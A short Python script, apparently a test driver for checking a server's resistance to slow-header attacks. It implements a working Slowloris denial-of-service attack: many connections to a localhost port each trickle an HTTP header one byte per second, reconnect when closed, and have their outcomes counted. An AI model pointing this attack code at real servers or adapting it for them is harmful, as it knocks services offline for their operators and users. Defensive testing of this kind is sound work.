"""Slowloris: CONNECTIONS connections from SOURCE_IP, each sending one header byte a second for SECONDS.

usage: attacker.py PORT CONNECTIONS SECONDS SOURCE_IP [--instant-reconnect]

A connection the server closes is replaced on the next one-second round, as slowloris does; with
--instant-reconnect it is replaced at once (a harsher attacker). Prints how many connections were opened and how
many the server closed.
"""
import asyncio, sys, time
port, n, duration, source = int(sys.argv[1]), int(sys.argv[2]), float(sys.argv[3]), sys.argv[4]
instant = "--instant-reconnect" in sys.argv[5:]
head = b"GET / HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"a" * 4000
stats = {"opened": 0, "closed_by_server": 0}
async def one(i):
    end = time.monotonic() + duration
    while time.monotonic() < end:
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port, local_addr=(source, 0))
        except OSError:
            await asyncio.sleep(1); continue
        stats["opened"] += 1
        try:
            for b in head:
                if time.monotonic() >= end: break
                w.write(bytes([b])); await w.drain()
                try:
                    data = await asyncio.wait_for(r.read(1), timeout=1.0)
                    stats["closed_by_server"] += 1; break
                except asyncio.TimeoutError:
                    pass
        except OSError:
            stats["closed_by_server"] += 1
        finally:
            w.close()
        # Like slowloris itself, a closed socket is replaced on the next one-second round, not at once.
        if not instant:
            await asyncio.sleep(1)
async def main():
    await asyncio.gather(*(one(i) for i in range(n)))
    print(stats)
asyncio.run(main())
